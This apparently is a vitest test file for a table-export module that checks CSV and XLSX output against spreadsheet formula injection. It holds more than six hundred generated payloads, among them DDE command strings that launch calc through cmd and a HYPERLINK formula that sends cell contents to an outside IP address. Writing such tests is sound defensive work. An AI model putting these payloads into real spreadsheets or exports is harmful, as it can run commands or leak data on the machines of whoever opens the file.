/** Files for people: whatever a managed system holds, a spreadsheet that opens them computes nothing. */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readWorkbook } from '../../test/contract/read-workbook.ts';
import { createTableFile, formatTableRows } from './table-file.ts';
import type { TableColumn } from './write-spreadsheet.ts';

const starts = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\r\n=',
  '\t',
  '\r',
  '\n',
];
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://198.51.100.7/?"&A1,"here")',
  'SUM(1,2)*cmd|"/c x"!A1',
  '"quoted"',
  '\'"";x',
  '2+5+cmd|\' /C "calc"\'!A0',
];
const wraps: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `x;${payload}`,
  (payload) => `x";${payload}`,
  (payload) => `x\n${payload}`,
  (payload) => `x\r\n${payload}`,
  (payload) => `x\t${payload}`,
];
const payloads = starts.flatMap((start) =>
  bodies.flatMap((body) => wraps.map((wrap) => wrap(start + body))),
);

/** Cells as any program could cut them: by any of the usual separators, with quotes kept or taken away. */
function cutEveryWay(csv: string): readonly string[] {
  return [',', ';', '\t'].flatMap((separator) =>
    csv
      .split(/\r\n|\r|\n/)
      .flatMap((line) => line.split(separator))
      .map((cell) => cell.replace(/^"|"$/g, '').replaceAll('""', '"')),
  );
}

const text: TableColumn = { name: 'Note', type: 'text' };
const dangerous = /^[=+\-@＝＋－＠]/u;
let folder = '';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'formulas-'));
});
afterAll(() => rm(folder, { recursive: true }));

describe('formulas in files for people', () => {
  it('are more than six hundred here', () => {
    expect(new Set(payloads).size).toBeGreaterThan(600);
  });

  it('compute nothing in CSV, however a program cuts it into cells', () => {
    for (const payload of payloads) {
      const csv = formatTableRows([text, text], [['first', payload]], { isRaw: false });
      const cells = cutEveryWay(csv);

      expect(
        cells.filter((cell) => dangerous.test(cell)),
        JSON.stringify(payload),
      ).toEqual([]);
    }
  });

  it('compute nothing in a CSV file, its header included', async () => {
    const path = join(folder, 'a.csv');
    await using file = await createTableFile(path);
    const names = ['=1+1', '@x', 'ok'].map((name): TableColumn => ({ name, type: 'text' }));
    await file.startTable('T', names);
    await file.add([['-1', '+1', 'ok']]);
    await file.complete();

    expect(await readFile(path, 'utf8')).toBe("'=1+1,'@x,ok\n'-1,'+1,ok\n");
  });

  it('compute nothing where a number is expected and something else stands', () => {
    const number: TableColumn = { name: 'Count', type: 'number' };
    const rows = [['-5'], ['-5.5e3'], [-7], ["-1+cmd|'x'!A0"], ['=1']];

    expect(formatTableRows([number], rows, { isRaw: false })).toBe(
      "-5\n-5.5e3\n-7\n'-1+cmd|'x'!A0\n'=1\n",
    );
  });

  it('are text in a workbook, as they are', async () => {
    const path = join(folder, 'a.xlsx');
    const chosen = payloads.filter((payload) => !payload.includes('\r'));
    await using file = await createTableFile(path);
    await file.startTable('=T', [{ name: '=Note', type: 'text' }]);
    await file.add(chosen.map((payload) => [payload]));
    await file.complete();

    const [sheet] = await readWorkbook(path);
    expect(sheet?.xml).not.toMatch(/<f[ >/]/);
    const cells = sheet?.cells.map((row) => row.get(0)) ?? [];
    expect(new Set(cells.map((cell) => cell?.type))).toEqual(new Set(['s']));
    expect(cells.slice(1).map((cell) => cell?.value)).toEqual(chosen);
  });

  it('stay as they are where somebody asks for raw text', async () => {
    const path = join(folder, 'raw.csv');
    await using file = await createTableFile(path, { isRaw: true });
    await file.startTable('T', [{ name: '=x', type: 'text' }]);
    await file.add([['=1+1'], ['x;=1']]);
    await file.complete();

    expect(await readFile(path, 'utf8')).toBe('=x\n=1+1\nx;=1\n');
  });
});
